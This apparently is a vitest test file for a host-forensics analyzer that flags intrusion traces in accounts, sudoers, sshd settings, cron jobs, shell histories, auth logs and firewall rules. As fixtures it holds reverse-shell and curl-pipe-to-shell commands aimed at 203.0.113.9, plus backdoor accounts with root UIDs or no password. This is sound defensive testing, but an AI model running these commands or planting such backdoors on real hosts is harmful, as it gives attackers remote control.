import { describe, expect, it } from 'vitest';
import authentication from '../../../../src/main/analyze/analyzers/authentication';
import firewall from '../../../../src/main/analyze/analyzers/firewall';
import host from '../../../../src/main/analyze/analyzers/host';
import history from '../../../../src/main/analyze/analyzers/shell-history';
import type { Finding } from '../../../../src/shared/domain';
import { analyze, byRule, cited, framed, type Given, type GivenFrame } from '../kit';

/** An exhibit of captureHostFiles(): files by what the collector calls them. */
function files(collector: string, given: [as: string, path: string, body: string][], more: GivenFrame[] = []): Given {
  const frames = given.flatMap(([as, path, body], i): GivenFrame[] => [
    { name: `${as}:${i}.path`, body: path, kind: 'note' },
    { name: `${as}:${i}`, body },
  ]);
  return { collector, kind: 'frames', content: framed(collector, [...frames, ...more]) };
}

/** The findings by rule and what is cited first. */
async function told(given: Given[], analyzers: Parameters<typeof analyze>[1]) {
  const { findings } = await analyze(given, analyzers);
  return Promise.all(findings.map(async (one) => [one.rule, String((await cited(given, one))[0])]));
}

const PASSWD = 'root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1::/:/usr/sbin/nologin\n';

describe('accounts of a host', () => {
  it('tells a second root and an account without a password, with their lines', async () => {
    const given = [
      files('host.users', [
        ['account', '/etc/passwd', `${PASSWD}support:x:0:0::/root:/bin/sh\n`],
        ['account', '/etc/shadow', 'root:*:19000:0:99999:7:::\nguest::19000:0:99999:7:::\n'],
        [
          'sudo',
          '/etc/sudoers',
          'root ALL=(ALL:ALL) ALL\n%sudo ALL=(ALL) NOPASSWD: ALL\n# eve ALL=(ALL) NOPASSWD: ALL\nmallory ALL=(ALL) NOPASSWD: ALL\n',
        ],
        ['account', '/etc/passwd-', 'old:x:0:0::/root:/bin/sh\n'],
      ]),
    ];
    expect((await told(given, [host])).sort()).toEqual([
      ['host.no-password', 'guest::19000:0:99999:7:::'],
      ['host.second-root', 'support:x:0:0::/root:/bin/sh'],
      ['host.sudo-all', 'mallory ALL=(ALL) NOPASSWD: ALL'],
    ]);
  });

  it('says nothing of ordinary accounts, nor of bytes that are no passwd', async () => {
    const given = files('host.users', [
      ['account', '/etc/passwd', `${PASSWD}\n:::\nx:y:z\n\u0000\u0001`],
      ['account', '/etc/shadow', 'root:!:1\n'],
    ]);
    expect((await analyze([given], [host])).findings).toEqual([]);
  });

  it('tells settings of sshd that open a way in, and none of the usual ones', async () => {
    const given = [
      files('host.ssh', [
        ['system', '/etc/ssh/sshd_config', 'PermitRootLogin yes\n#PermitEmptyPasswords yes\nUsePAM yes\n'],
        ['system', '/etc/ssh/sshd_config.d/x.conf', ' permitemptypasswords yes\n'],
      ]),
    ];
    expect(await told(given, [host])).toEqual([['host.ssh-setting', ' permitemptypasswords yes']]);
  });
});

describe('what a host starts by itself', () => {
  it('tells commands of intruders in crontabs, units and start files, and what runs from /tmp', async () => {
    const given = [
      files('host.cron', [
        ['cron', '/etc/cron.d/sync', '# curl http://x | sh\n* * * * * root curl -s http://203.0.113.9/x | sh\n'],
        ['unit', '/etc/systemd/system/u.service', '[Service]\nExecStart=/dev/shm/.u --quiet\n'],
        ['cron', '/var/spool/cron/crontabs/root', '@reboot /var/tmp/agent\n'],
      ]),
      files('host.histories', [
        ['start', '/root/.bashrc', 'alias ls="ls --color"\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\n'],
        ['start.all', '/etc/ld.so.preload', '/lib/libx.so\n'],
      ]),
    ];
    expect((await told(given, [host])).sort()).toEqual([
      ['host.preload', '/lib/libx.so\n'],
      ['host.start-command', '* * * * * root curl -s http://203.0.113.9/x | sh'],
      ['host.start-command', 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'],
      ['host.start-temporary', '@reboot /var/tmp/agent'],
      ['host.start-temporary', 'ExecStart=/dev/shm/.u --quiet'],
    ]);
  });

  it('says nothing of what distributions start', async () => {
    const given = [
      files('host.cron', [
        ['cron', '/etc/crontab', '17 * * * * root cd / && run-parts --report /etc/cron.hourly\n'],
        ['cron', '/etc/cron.d/e2scrub_all', '30 3 * * 0 root test -e /run/systemd/system || /usr/sbin/e2scrub_all\n'],
        ['unit', '/usr/lib/systemd/system/modprobe@.service', 'ExecStart=-/sbin/modprobe -abq %i\n'],
        ['unit', '/lib/systemd/system/tmp.mount', 'ExecStartPre=/bin/rm -rf /tmp/.X11-unix\n'],
        ['rc', '/etc/update-motd.d/10-uname', '#!/bin/sh\nuname -snrvm\n'],
      ]),
      files('host.histories', [['start', '/root/.profile', 'mesg n 2> /dev/null || true\n']]),
    ];
    expect((await analyze(given, [host])).findings).toEqual([]);
  });

  it('reports a broken exhibit and reads the other', async () => {
    const good = files('host.users', [['account', '/etc/passwd', 'toor:x:0:0::/:/bin/sh\n']]);
    const torn = { ...good, sha256: 'f'.repeat(64) };
    const result = await analyze([torn, good], [host]);
    expect(result.unreadable.map(({ exhibit }) => exhibit)).toEqual(['E0001']);
    expect(result.findings).toHaveLength(1);
  });
});

describe('shell histories', () => {
  it('of a host: what only an intruder types, and a link to /dev/null', async () => {
    const given = [
      files(
        'host.histories',
        [
          [
            'history',
            '/root/.bash_history',
            'docker ps\ncat /etc/shadow\ncrontab -e\ncurl http://203.0.113.9/x.sh | bash\n',
          ],
        ],
        [
          { name: 'history:9.path', body: '/home/eve/.bash_history', kind: 'note' },
          { name: 'history:9.link', body: '/dev/null', kind: 'note' },
        ],
      ),
    ];
    expect((await told(given, [history])).sort()).toEqual([
      ['history.command', 'curl http://203.0.113.9/x.sh | bash'],
      ['history.off', '/home/eve/.bash_history'],
    ]);
  });

  it('of a container as it shows them itself: each line is cited in its file', async () => {
    const given: Given[] = [
      {
        collector: 'container.inside.history',
        kind: 'text',
        content:
          '==> /root/.ash_history <==\nls\ncat /etc/shadow\n==> /home/a/.bash_history <==\nnc -e /bin/sh 203.0.113.9 4444\n',
      },
    ];
    const result = await analyze(given, [history]);
    const claims = byRule(result, 'history.command')
      .map(({ claim }) => claim.split(' ')[0])
      .sort();
    expect(claims).toEqual(['/home/a/.bash_history', '/root/.ash_history']);
    for (const finding of result.findings) {
      const places = await cited(given, finding);
      expect(String(places[0])).toMatch(/^(?:cat \/etc\/shadow|nc -e \/bin\/sh 203\.0\.113\.9 4444)$/);
      expect(String(places[1])).toMatch(/^==> .* <==$/);
    }
  });

  it('that hold nothing, or no head, give nothing', async () => {
    for (const content of ['', 'nc -e /bin/sh 1.2.3.4 5\n', '==> x <==\n'])
      expect(
        (await analyze([{ collector: 'container.inside.history', kind: 'text', content }], [history])).findings,
      ).toEqual([]);
  });
});

describe('logins', () => {
  const line = (i: number, text: string) =>
    `Nov 25 09:${String(i).padStart(2, '0')}:00 host1 sshd[${100 + i}]: ${text}\n`;
  const failures = (n: number, from = '203.0.113.9') =>
    Array.from({ length: n }, (_, i) => line(i, `Failed password for root from ${from} port ${4000 + i} ssh2`)).join(
      '',
    );
  const log = (body: string) => [files('host.auth-log', [['log', '/var/log/auth.log', body]])];

  it('tells a login after many failures from one address, and cites it first', async () => {
    const given = log(`${failures(12)}${line(20, 'Accepted password for root from 203.0.113.9 port 5000 ssh2')}`);
    const [finding, ...others] = (await analyze(given, [authentication])).findings as [Finding];
    expect(others).toEqual([]);
    expect(finding).toMatchObject({ rule: 'login.guessed', severity: 'high' });
    expect(finding.claim).toContain('12 logins from 203.0.113.9 failed');
    expect(String((await cited(given, finding))[0])).toContain('Accepted password for root');
  });

  it('tells tries without success as low, and a forgotten password not at all', async () => {
    const { findings } = await analyze(log(failures(12)), [authentication]);
    expect(findings.map(({ rule, severity }) => [rule, severity])).toEqual([['login.tried', 'low']]);
    const few = log(`${failures(3)}${line(20, 'Accepted password for root from 203.0.113.9 port 5000 ssh2')}`);
    expect((await analyze(few, [authentication])).findings).toEqual([]);
    const other = log(`${failures(12)}${line(20, 'Accepted publickey for root from 192.0.2.7 port 5000 ssh2')}`);
    expect(byRule(await analyze(other, [authentication]), 'login.guessed')).toEqual([]);
  });

  it('tells accounts that were added and commands of intruders under sudo', async () => {
    const body = [
      'Nov 25 09:00:00 host1 useradd[9]: new user: name=eve, UID=0, GID=0, home=/root, shell=/bin/sh\n',
      'Nov 25 09:01:00 host1 sudo:  eve : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/bash -c curl http://203.0.113.9/x | sh\n',
      'Nov 25 09:02:00 host1 sudo:  ada : TTY=pts/0 ; PWD=/root ; USER=root ; COMMAND=/usr/bin/apt update\n',
    ];
    const given = log(`${line(1, 'Server listening on 0.0.0.0 port 22.')}${body.join('')}`);
    expect((await told(given, [authentication])).map(([rule]) => rule).sort()).toEqual([
      'login.command-as-root',
      'login.user-added',
    ]);
  });
});

describe('the packet filter', () => {
  const exhibit = (name: string, body: string): Given => ({
    collector: 'host.firewall',
    kind: 'frames',
    content: framed('host.firewall', [{ name, body, kind: 'output' }]),
  });

  it('tells forwarding that no engine made, and logs that may not leave', async () => {
    const given = [
      exhibit(
        'iptables',
        '*nat\n:PREROUTING ACCEPT [0:0]\n[1:60] -A PREROUTING -p tcp -m tcp --dport 8443 -j DNAT --to-destination 203.0.113.9:443\n[0:0] -A DOCKER ! -i docker0 -p tcp -m tcp --dport 80 -j DNAT --to-destination 172.17.0.2:80\nCOMMIT\n*filter\n[5:300] -A OUTPUT -p udp -m udp --dport 514 -j DROP\n',
      ),
    ];
    const found = await told(given, [firewall]);
    expect(found.map(([rule]) => rule).sort()).toEqual(['firewall.forward', 'firewall.log-dropped']);
    expect(found.find(([rule]) => rule === 'firewall.forward')?.[1]).toContain('203.0.113.9:443');
  });

  it('reads nft where iptables says nothing, and takes the engine’s chains for its own', async () => {
    const given = [
      exhibit(
        'nft',
        'table ip nat {\n\tchain DOCKER {\n\t\ttcp dport 80 dnat to 172.17.0.2:80 # handle 4\n\t}\n\tchain pre {\n\t\ttype nat hook prerouting priority dstnat;\n\t\ttcp dport 22 redirect to :2222 # handle 7\n\t}\n}\n',
      ),
    ];
    expect(await told(given, [firewall])).toEqual([
      ['firewall.forward', '\t\ttcp dport 22 redirect to :2222 # handle 7'],
    ]);
  });
});
